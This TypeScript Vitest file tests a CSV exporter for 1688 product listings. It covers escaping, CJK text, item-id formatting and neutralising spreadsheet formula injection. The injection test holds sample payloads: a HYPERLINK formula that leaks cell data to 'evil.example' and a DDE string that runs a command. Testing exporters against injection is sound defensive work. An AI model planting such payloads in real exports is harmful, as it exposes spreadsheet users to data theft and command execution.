import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { Product } from "../tmapi/product.js";
import { CSV_COLUMNS, productsToCsv } from "./csv.js";

const base: Product = {
	itemId: "1",
	url: "https://detail.1688.com/offer/1.html",
	title: "plain",
	imageUrl: null,
	price: 4.5,
	salePrice: null,
	originalPrice: null,
	currency: "CNY",
	moq: 2,
	sales: 100,
	salesLabel: "100+",
	salesWindow: "90d",
	buyerCount: null,
	shop: {
		name: "店",
		loginId: null,
		url: null,
		isSuperFactory: true,
		isPowerfulSeller: null,
		years: null,
		score: null,
		repurchaseRate: null,
	},
	delivery: { areaFrom: ["浙江", "台州市"], freeShipping: false, shipIn48h: null },
	repurchaseRate: 60,
	lowRefundRate: null,
	onePieceMinOrder: null,
	categoryPath: [],
};

describe("productsToCsv", () => {
	it("round-trips commas, quotes, newlines and CJK text through a CSV parser", () => {
		const tricky = ['连衣裙, 夏季 "新款"', "line one\nline two", "emoji 👗 and ，full-width comma"];
		const csv = productsToCsv(tricky.map((title, i) => ({ ...base, itemId: String(i + 1), title })));
		expect(csv.startsWith("\uFEFF")).toBe(true);
		const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
		expect(Object.keys(rows[0] ?? {})).toEqual(CSV_COLUMNS);
		expect(rows.map((r) => r.title)).toEqual(tricky);
		expect(rows[0]).toMatchObject({
			item_id: "1",
			price: "4.5",
			sale_price: "",
			super_factory: "yes",
			free_shipping: "no",
			ships_from: "浙江 台州市",
			repurchase_rate: "60",
		});
	});

	it("neutralises cells a spreadsheet would run as a formula, per OWASP's CSV injection advice", () => {
		const attacks = [
			'=HYPERLINK("https://evil.example/?"&A1,"Click")',
			"+1+cmd|' /C calc'!A0",
			"-2+3",
			"@SUM(1,1)",
			"\t=1+1",
			"\r=1+1",
			"＝1+1",
		];
		const csv = productsToCsv(
			attacks.map((title, i) => ({
				...base,
				itemId: String(i + 1),
				title,
				shop: { ...base.shop, name: title },
			})),
		);
		const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
		expect(rows.map((r) => r.title)).toEqual(attacks.map((title) => `'${title}`));
		expect(rows.map((r) => r.shop)).toEqual(attacks.map((title) => `'${title}`));
		// Numbers stay numbers, and text that only contains the characters further in is left alone.
		expect(rows[0]).toMatchObject({ price: "4.5", moq: "2", url: "https://detail.1688.com/offer/1.html" });
		const plain = parse(productsToCsv([{ ...base, title: "a=b, c+d @ e - f" }]), {
			bom: true,
			columns: true,
		});
		expect((plain as Record<string, string>[])[0]?.title).toBe("a=b, c+d @ e - f");
	});

	it("keeps 1688's 12-digit item ids as text, so spreadsheets do not show 6.98E+11", () => {
		const csv = productsToCsv([{ ...base, itemId: "698123456789" }]);
		const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
		expect(rows[0]?.item_id).toBe("'698123456789");
		expect(csv).not.toMatch(/\r\n698123456789,/);
	});
});
